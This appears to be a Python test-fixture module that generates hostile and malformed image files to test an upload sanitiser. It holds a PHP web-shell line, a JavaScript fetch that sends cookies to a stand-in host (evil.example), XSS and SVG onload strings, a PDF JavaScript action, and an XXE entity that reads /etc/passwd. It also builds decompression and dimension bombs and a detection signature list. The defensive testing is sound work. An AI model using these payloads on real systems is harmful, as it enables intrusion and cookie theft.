"""More than a thousand hostile or odd files, the same ones at every call.

Each says what must become of it: "taken" and made anew, "refused" with a sentence, or "either".
"""

import io
import random
import struct
import zlib
from collections.abc import Iterator
from typing import NamedTuple

from PIL import Image

from tests.photos import pictures
from tests.photos.pictures import app13, record, saved

PAYLOADS = {  # none of these bytes may come out again
    "zip": b"PK\x03\x04\x14\0\0\0evil.exe" + b"PK\x05\x06" + b"\0" * 18,
    "php": b"<?php system($_GET['c']); __halt_compiler(); ?>",
    "html": b"<html><body><script>alert(document.cookie)</script></body></html>",
    "javascript": b"/*\xff\xfe*/=1;fetch('https://evil.example/'+document.cookie)",
    "svg": b"<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'></svg>",
    "rar": b"Rar!\x1a\x07\x01\x00evil",
    "7z": b"7z\xbc\xaf\x27\x1cevil",
    "elf": b"\x7fELF\x02\x01\x01\0evil",
    "exe": b"MZ\x90\0This program cannot be run in DOS mode",
    "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
}
SIGNATURES = (
    *(b"PK\x03\x04evil", b"evil", b"<?php", b"<script", b"halt_compiler", b"fetch(", b"onload="),
    *(b"Rar!\x1a", b"7z\xbc\xaf", b"\x7fELF", b"DOS mode", b"%PDF", b"OpenAction", b"4711"),
)


class File(NamedTuple):
    name: str
    data: bytes
    fate: str = "either"


def files() -> Iterator[File]:
    good = bases()
    yield from (File(f"good {name}", data, "taken") for name, data in good.items())
    for family in (_cut, _flipped, _spliced):
        yield from family(good, random.Random(family.__name__))
    yield from _polyglots(good)
    yield from _labelled(random.Random("labels"))
    yield from _bombs()
    yield from _strangers()
    yield from _odd()
    yield from _noise(random.Random("noise"))


def texture(mode: str = "RGB", size: tuple[int, int] = (96, 64)) -> Image.Image:
    image = Image.radial_gradient("L").resize(size)
    if mode == "P":
        return image.convert("RGB").quantize(16)
    if mode == "I;16":
        return image.convert("I").point(lambda value: value * 257).convert("I;16")
    if mode in ("RGBA", "LA"):
        image = image.convert("RGB" if mode == "RGBA" else "L")
        image.putalpha(Image.linear_gradient("L").resize(size))
        return image
    return image.convert(mode)


def bases() -> dict[str, bytes]:
    second = texture("L", (30, 20))
    return {
        "jpeg": saved(texture(), "JPEG"),
        "progressive": saved(texture(), "JPEG", progressive=True),
        "grey": saved(texture("L"), "JPEG"),
        "cmyk": saved(texture("CMYK"), "JPEG"),
        "restarts": saved(texture(), "JPEG", restart_marker_blocks=2),
        "mpo": saved(texture(), "MPO", save_all=True, append_images=[second]),
        "png": saved(texture(), "PNG"),
        "palette": saved(texture("P"), "PNG", transparency=3),
        "see-through": saved(texture("RGBA"), "PNG"),
        "16 bits": saved(texture("I;16"), "PNG"),
        "bits": saved(texture("1"), "PNG"),
        "webp": saved(texture(), "WEBP"),
        "lossless": saved(texture("RGBA"), "WEBP", lossless=True),
        "avif": saved(texture(), "AVIF", speed=10),
        "see-through avif": saved(texture("RGBA"), "AVIF", speed=10),
    }


def _cut(good: dict[str, bytes], chance: random.Random) -> Iterator[File]:
    for name, data in good.items():
        places = {1, 2, 3, 4, 8, 11, 12, 13, 20, 33, len(data) // 2, len(data) - 1}
        places |= {chance.randrange(1, len(data)) for _ in range(12)}
        for place in sorted(places):
            yield File(f"{name} cut at {place}", data[:place])


def _flipped(good: dict[str, bytes], chance: random.Random) -> Iterator[File]:
    for name, data in good.items():
        for number in range(24):
            bad = bytearray(data)
            for _ in range(1 + number % 8):
                # Half of them in the head, where sizes and offsets stand.
                place = chance.randrange(len(bad) if number % 2 else min(len(bad), 200))
                bad[place] ^= 1 << chance.randrange(8)
            yield File(f"{name} flipped {number}", bytes(bad))


def _spliced(good: dict[str, bytes], chance: random.Random) -> Iterator[File]:
    """Pieces taken out, doubled, put elsewhere, and put in from another format."""
    names = list(good)
    for name, data in good.items():
        for number in range(10):
            first, last = sorted(chance.randrange(len(data)) for _ in range(2))
            other = good[chance.choice(names)]
            yield File(
                f"{name} spliced {number}",
                (
                    data[:first] + data[last:],
                    data[:last] + data[first:],
                    data[:first] + other + data[first:],
                    data[:first] + b"\0" * (last - first) + data[last:],
                    data[:first] + b"\xff" * (last - first) + data[last:],
                )[number % 5],
            )


def _polyglots(good: dict[str, bytes]) -> Iterator[File]:
    for payload, code in PAYLOADS.items():
        for name in ("jpeg", "mpo", "png", "webp", "avif"):
            yield File(f"{name} with {payload} behind", good[name] + code, "taken")
        yield File(f"{payload} before a jpeg", code + good["jpeg"], "refused")
        exif = Image.Exif()
        exif[0x010E], exif[0x013B] = code.decode("latin-1"), code.decode("latin-1")
        said = {"exif": exif, "icc_profile": code * 20}
        comment = saved(texture(), "JPEG", comment=code, xmp=b"<x/>" + code, **said)
        yield File(f"jpeg that says {payload}", comment, "taken")
        yield File(f"jpeg labelled {payload}", pictures.jpeg(extra=app13(code)), "taken")
        texts = [_chunk(b"tEXt", b"Comment\0" + code), _chunk(b"zTXt", b"a\0\0" + _packed(code))]
        texts += [_chunk(b"iTXt", b"a\0\0\0\0\0" + code), _chunk(b"prVt", code)]
        for number, text in enumerate(texts):
            yield File(f"png that says {payload} {number}", _with_chunk(text), "taken")
        yield File(f"webp that says {payload}", saved(texture(), "WEBP", xmp=code, exif=exif))


def _labelled(chance: random.Random) -> Iterator[File]:
    """Pictures that are good, with metadata that is not."""
    for number in range(40):
        junk = chance.randbytes(chance.randrange(1, 3000))
        jpeg = {
            "exif": pictures.jpeg(exif=b"Exif\0\0" + (b"MM\0*", b"II*\0")[number % 2] + junk),
            "xmp": pictures.jpeg(xmp=junk),
            "iptc": pictures.jpeg(extra=app13(junk)),
            "profile": pictures.jpeg(icc_profile=junk),
        }
        yield from (File(f"{kind} of junk {number}", data, "taken") for kind, data in jpeg.items())
    laughs = b'<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>'
    outside = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    for name, packet in (("laughs", laughs), ("outside", outside), ("deep", b"<a>" * 9000)):
        yield File(f"xmp that {name}", pictures.jpeg(xmp=packet), "taken")
    for number in (5, 25, 55, 90, 120):
        for value in (b"\0" * 200, b"\xff" * 200, b"x" * 32_767, "重庆".encode("gb18030")):
            label = app13(record(number, value))
            yield File(f"iptc {number} of {value[:2]!r}", pictures.jpeg(extra=label), "taken")


def _bombs() -> Iterator[File]:
    sides = (20_001, 30_000, 65_535, 2**31 - 1)
    for wide, high in [(one, 10) for one in sides] + [(10, one) for one in sides]:
        yield File(f"png of {wide} by {high}", pictures.png_header(wide, high), "refused")
    for side in (7_750, 9_000, 20_000, 60_000):
        yield File(f"png of {side} squared", pictures.png_header(side, side), "refused")
        yield File(f"jpeg of {side} squared", _jpeg_of(side, side), "refused")
    for size in (0, 1):
        yield File(f"png of nothing {size}", pictures.png_header(0, size), "refused")
        yield File(f"jpeg of nothing {size}", _jpeg_of(0, size), "refused")
        yield File(f"low jpeg of nothing {size}", _jpeg_of(size, 0), "refused")
    zeros = _packed(b"\0" * 60_000_000)
    for kind in (b"zTXt", b"iCCP"):
        yield File(f"{kind!r} bomb", _with_chunk(_chunk(kind, b"a\0\0" + zeros)))
    yield File("iTXt bomb", _with_chunk(_chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + zeros)))
    image = saved(texture(), "PNG")
    start = image.index(b"IDAT") - 4
    yield File("IDAT bomb", image[:start] + _chunk(b"IDAT", zeros) + image[start:])
    for count in (101, 150, 1000, 5000):
        yield File(f"jpeg of {count} scans", pictures.many_scans(count), "refused")
    jpeg = saved(texture(), "JPEG")
    yield File("jpeg of parts", jpeg[:2] + b"\xff\xfe\0\2" * 300_000 + jpeg[2:], "refused")
    many = _chunk(b"tEXt", b"a\0b") * 300_000
    yield File("png of parts", _with_chunk(many), "refused")
    yield File("frames of pixels", saved(texture("RGB", (7000, 8000)), "PNG"), "taken")


def _strangers() -> Iterator[File]:
    for name in ("GIF", "BMP", "TIFF", "ICO", "PPM", "TGA", "PCX", "SGI", "DDS", "JPEG2000", "PDF"):
        yield File(f"a true {name}", saved(texture(), name), "refused")
    heads = [
        b"\0\0\0\x18ftypheic",
        b"\0\0\0\x18ftypmp42",
        b"RIFF\0\0\0\0WAVE",
        b"\xff\xd8",
        b"RIFF",
    ]
    heads += [b"\x89PNG\r\n\x1a\n", b"8BPS\0\1", b"{}", b"ftypavif", b"\0", b"\0\0\0\x1cftypavif"]
    for head in [*heads, *PAYLOADS.values()]:
        yield File(f"only {head[:12]!r}", head, "refused")
        yield File(f"{head[:12]!r} and nothing", head + b"\0" * 5000, "refused")
    yield File("nothing", b"", "refused")
    yield File("too heavy", b"\xff\xd8\xff" + b"\0" * (25 * 1024 * 1024), "refused")
    for name in ("WEBP", "PNG", "AVIF"):
        frames = [texture(), texture().rotate(90)]
        moving = saved(frames[0], name, save_all=True, append_images=frames[1:])
        yield File(f"moving {name}", moving, "refused")


def _odd() -> Iterator[File]:
    """Rare but good."""
    for size in ((1, 1), (1, 90), (90, 1), (3, 2), (2000, 1), (1, 2000)):
        for mode, name in (
            *((mode, "PNG") for mode in ("1", "L", "LA", "P", "RGB", "RGBA", "I;16")),
            *((mode, "JPEG") for mode in ("L", "RGB", "CMYK")),
            *((mode, "WEBP") for mode in ("RGB", "RGBA")),
            ("RGB", "AVIF"),
        ):
            yield File(f"{name} {mode} of {size}", saved(texture(mode, size), name), "taken")
    for mark in range(12):
        exif = Image.Exif()
        exif[0x0112] = mark
        exif[0xA431] = "SERIAL-4711"
        yield File(f"turned {mark}", saved(texture(), "JPEG", exif=exif), "taken")
    yield File("longest", saved(Image.new("L", (20_000, 3)), "PNG"), "taken")
    yield File("highest", saved(Image.new("L", (3, 20_000)), "JPEG"), "taken")


def _noise(chance: random.Random) -> Iterator[File]:
    heads = (b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"RIFF\x24\x10\0\0WEBPVP8 ", b"")
    heads += (b"\0\0\0\x1cftypavif\0\0\0\0avifmif1", b"\xff\xd8\xff\xc0\0\x11\x08\0\x40\0\x60\3")
    for number in range(72):
        head = heads[number % len(heads)]
        yield File(f"noise {number}", head + chance.randbytes(chance.randrange(20, 4000)))


def _packed(data: bytes) -> bytes:
    return zlib.compress(data, 9)


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _with_chunk(chunk: bytes) -> bytes:
    png = saved(texture(), "PNG")
    return png[:33] + chunk + png[33:]


def _jpeg_of(wide: int, high: int) -> bytes:
    data = saved(texture(), "JPEG")
    place = data.index(b"\xff\xc0") + 5
    return data[:place] + struct.pack(">HH", high, wide) + data[place + 4 :]


def opened(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image
